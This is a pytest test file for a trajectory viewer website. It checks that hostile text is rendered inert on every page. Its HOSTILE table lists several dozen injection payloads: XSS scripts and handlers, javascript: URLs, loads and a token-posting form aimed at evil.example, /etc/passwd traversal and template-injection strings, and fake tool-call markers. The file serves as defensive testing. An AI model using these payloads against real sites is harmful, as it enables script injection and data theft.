"""Text of strangers is shown as text on every page: it makes no element, no attribute, and loads nothing."""

from __future__ import annotations

import copy
import math
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from page_helpers import Page, parsed
from site_run import client_of, open_run, speak

from genevolve_ray.evolution.store.lessons import lesson_state
from genevolve_ray.evolution.store.run import RunStore
from genevolve_ray.records.experience import Experience, Lesson, MovedToken
from genevolve_ray.records.published.structured import (
    FoundItem,
    SearchStep,
    SkillStep,
    StructuredTrajectory,
    ThinkStep,
    write_structured,
)
from genevolve_ray.records.trajectory import Group
from genevolve_ray.viewer.data import ReportData, no_images
from genevolve_ray.viewer.site.entries import PAGE_SIZE, group_address
from genevolve_ray.viewer.site.sources import RunSource, open_sources
from genevolve_ray.viewer.trajectory_page import write_trajectory_page

MARK = "⟪shown⟫"
ALERT = "alert(1)"
HOSTILE = {
    "script": f"<script>{ALERT}</script>",
    "script in capitals": f"<SCRIPT SRC=http://evil.example/x.js></SCRIPT>{ALERT}",
    "end of a script": f"</script><script>{ALERT}</script>",
    "end of a style": "</style><style>body{background:url(http://evil.example/x)}</style>",
    "end of a title": f"</title><script>{ALERT}</script>",
    "end of a text area": f"</textarea><script>{ALERT}</script>",
    "picture with a handler": f"<img src=x onerror={ALERT}>",
    "picture from elsewhere": "<img src='http://evil.example/pixel.png'>",
    "picture set": "<picture><source srcset=http://evil.example/a><img></picture>",
    "svg": f"<svg onload={ALERT}><script>{ALERT}</script></svg>",
    "svg in an address": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
    "link": "<link rel=stylesheet href=http://evil.example/x.css>",
    "prefetch": "<link rel=dns-prefetch href=//evil.example>",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "base": "<base href=http://evil.example/>",
    "form": "<form action=http://evil.example/><input name=token><button>send</button></form>",
    "form action": "<button formaction=http://evil.example/ form=filter>x</button>",
    "details with a handler": f"<details open ontoggle={ALERT}>",
    "body with a handler": f"<body onload={ALERT}>",
    "anchor": "<a href=javascript:alert(1)>click</a>",
    "video": f"<video><source onerror={ALERT}></video>",
    "template element": "<template><script>alert(1)</script></template>",
    "custom element": "<x-a is=script onfocus=alert(1) tabindex=0 autofocus>",
    "comment": "<!-- --><script>alert(1)</script><!--",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='http://evil.example/x.xsl'?>",
    "end of an attribute": f"\" onmouseover=\"{ALERT}\" x=\"",
    "end of an attribute, single": f"' onmouseover='{ALERT}' x='",
    "backquote": f"` onmouseover=`{ALERT}",
    "javascript address": "javascript:alert(document.domain)",
    "javascript address with a tab": "java\tscript:alert(1)",
    "javascript address with a control character": "\x01javascript:alert(1)",
    "vbscript address": "vbscript:msgbox(1)",
    "address of a page": "data:text/html,<script>alert(1)</script>",
    "address without a scheme": "//evil.example/x",
    "character references": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "half a character reference": "&lt",
    "template expression": "{{ 7 * 7 }}{{ config }}{% for x in range(10**9) %}",
    "template statement": "{% include '/etc/passwd' %}{# hidden #}${7*7}#{7*7}<%= 7*7 %>",
    "python format": "{0.__class__.__mro__} %s %(password)s",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "overlong utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "bidi override": "\u202etxt.exe\u202d \u2066isolated",
    "bidi embedding left open": "\u202b\u202a\u2067",
    "zero width": "\u200b\u200d\ufeff\u2060",
    "tag characters": "\U000e0041\U000e0042",
    "stacked marks": "Z" + "\u0301" * 400,
    "null": "a\x00<script>alert(1)</script>",
    "control characters": "\x07\x08\x0b\x1b[31mred\x1b]0;title\x07\x7f\x9b",
    "line separators": "a\u2028b\u2029c\x85d",
    "half a surrogate pair": "\ud800<b>",
    "other half": "\udc00\ud800",
    "beyond the first plane": "\U0001f4a9" * 50,
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\con.png",
    "formula": "=HYPERLINK(\"http://evil.example\")",
    "one long word": "A" * 20_000,
    "many lines": "x\n" * 3_000,
    "deep nesting": "<div>" * 2_000,
    "protocol tags": "</think></answer><tool_call>{}</tool_call><answer>",
    "markers of results": "--- end of search result ---\n--- search result for [x] ---\n1. title: <b>y</b>",
    "an image id": "IMG_001: title: <img src=x onerror=alert(1)>",
    "ordinal phrase": "the <b>second reference image</b> first reference image",
    "empty": "",
    "spaces": " \t\n ",
}  # fmt: skip
TEXTS = {n: f"{t}{MARK}" if len(t) < 1000 else t for n, t in HOSTILE.items()} | {"harmless": f"harmless{MARK}"}
ACTIVE = frozenset(
    "script style iframe object embed link meta base form template svg math video body x-a textarea".split()
)
SAFE = ("/", "#", "data:image/png;base64,", "data:application/json;base64,")


def actives(page: Page) -> Counter[str]:
    """Return how many elements there are of each kind that does something."""
    return Counter(tag for tag, _ in page.tags if tag in ACTIVE)


def assert_only_text(page: Page) -> None:
    """Check every attribute of a page: no handler, no style, no address of another host or scheme."""
    for tag, attributes in page.tags:
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in ("style", "srcset", "srcdoc", "formaction", "ping"), (
                tag,
                name,
            )
            if name in ("href", "src", "action", "data", "poster", "data-lane", "data-events"):
                assert (value or "").startswith(SAFE) and not (value or "").startswith("//"), (tag, name, value)


@pytest.fixture(scope="module")
def source(make_data: Callable[..., ReportData], tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunSource]:
    """A run with a group for each text, and one of harmless text."""
    folder, data = tmp_path_factory.mktemp("hostile"), make_data(requests=9, steps=2)
    judged = [t for t in data.after if t.verdict is not None][:2]
    groups, lessons, moved = [], [], []
    for number, text in enumerate(TEXTS.values()):
        # A manifest is JSON, which has no half surrogate pairs.
        request_id, guidance = stored(f"{number} {text[:500]}"), stored(text[:1000])
        members = copy.deepcopy(judged)
        for sample, member in enumerate(members):
            speak(member, text)
            key = {"step": 1, "request_id": request_id, "sample": sample, "attempt": 0}
            member.key = member.key.model_copy(update=key)
        groups.append(Group(request_id, 1, members))
        card = Experience(
            trigger=guidance,
            summary=guidance,
            guidance={"search_strategy": (guidance,)},
            step=1,
            request_id=request_id,
            gap=0.1,
        )
        lessons.append(Lesson(request_id=request_id, bundle=number, experience=card, similarity=0.9, own=False))
        moved.append(MovedToken(trajectory=str(members[0].key), position=62, gap=1.0))
    with RunStore.open(str(folder / "run"), {"reward": {}, "policy": {"model": "elsewhere"}}) as store:
        for group in groups:
            store.put_group(group, 0)
        store.commit_step(1, groups, {"reward_mean": 0.5}, "s1", loop=lesson_state(lessons, moved))
    with open_run(folder / "run", folder / "index") as opened:
        yield opened


def pages_of(name: str, source: RunSource, folder: Path) -> dict[str, Page]:
    """Return every page about the group whose texts are those of `name`."""
    text, number = TEXTS[name], list(TEXTS).index(name)
    group = source.index.group(group_address("train", 1, stored(f"{number} {text[:500]}")))
    one, other = (member.address for member in group.members)
    asked = {
        "group": f"group/{group.address}",
        "trajectory": f"trajectory/{one}",
        "tokens": f"tokens/{one}",
        "comparison": f"compare?a={one}&b={other}",
    }
    client, pages = client_of(source), {}
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("genevolve_ray.viewer.site.trajectory._decoder", lambda request: lambda ids: text)
        for page, path in asked.items():
            answer = client.get(f"/{source.slug}/{path}")
            assert answer.status_code == 200, (page, answer.text[:300])
            pages[page] = parsed(answer.text)
    file = write_trajectory_page(source.index.load(one), no_images, folder / "page.html")
    return pages | {"file": parsed(file.read_text(encoding="utf-8"))}


def stored(text: str) -> str:
    """Return a text as the store of a run keeps it."""
    return text.encode("utf-8", "backslashreplace").decode()


@pytest.fixture(scope="module")
def plain(source: RunSource, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Counter[str]]:
    """The active elements of each page over harmless text."""
    pages = pages_of("harmless", source, tmp_path_factory.mktemp("plain"))
    return {name: actives(page) for name, page in pages.items()}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_shown_as_text(
    name: str, source: RunSource, plain: dict[str, Counter[str]], tmp_path: Path
) -> None:
    text = stored(TEXTS[name])
    for page_name, page in pages_of(name, source, tmp_path).items():
        assert actives(page) == plain[page_name], page_name
        assert_only_text(page)
        if len(text) < 300:
            assert MARK in page.text, page_name
            assert not text.isprintable() or text in page.text, page_name


def test_hostile_text_in_the_list_is_shown_as_text(source: RunSource) -> None:
    client, shown = client_of(source), ""
    for number in range(1, math.ceil(len(TEXTS) / PAGE_SIZE) + 1):
        page = parsed(client.get(f"/{source.slug}/groups?page={number}").text)
        assert set(actives(page)) == {"meta", "link", "script", "form", "body"}
        assert actives(page)["script"] == 1 and actives(page)["form"] == 1
        assert_only_text(page)
        shown += page.text
    assert all(text in shown for text in TEXTS.values() if len(text) < 200 and text.isprintable())


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_in_an_address_is_shown_as_text(name: str, source: RunSource) -> None:
    client, text = client_of(source), stored(TEXTS[name])[:200]
    for path, query in (("groups", {"text": text, "tool": text}), ("compare", {"a": text, "b": "b"})):
        page = parsed(client.get(f"/{source.slug}/{path}", params=query).text)
        assert set(actives(page)) == {"meta", "link", "script", "form", "body"}
        assert_only_text(page)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_in_a_trajectory_file_is_shown_as_text(name: str, tmp_path: Path) -> None:
    text = TEXTS[name]
    steps = (
        ThinkStep(content=text, action=text),
        SearchStep(query=text, results=(FoundItem(id=text, title=text),)),
        SkillStep(skill_name=text, key_points=(text,), guidance_preview=text),
    )
    structured = StructuredTrajectory(case_id=text, user_prompt=text, gen_prompt=text, steps=steps)
    (source,) = open_sources([str(write_structured(structured, tmp_path / "trajectory_structured.json"))], tmp_path)
    page = parsed(client_of(source).get(f"/{source.slug}/").text)
    assert actives(page) == {"meta": 3, "link": 5, "script": 1, "body": 1}
    assert_only_text(page)
    if len(text) < 100:
        assert page.text.count(MARK) >= 10
        assert not text.isprintable() or text in page.text
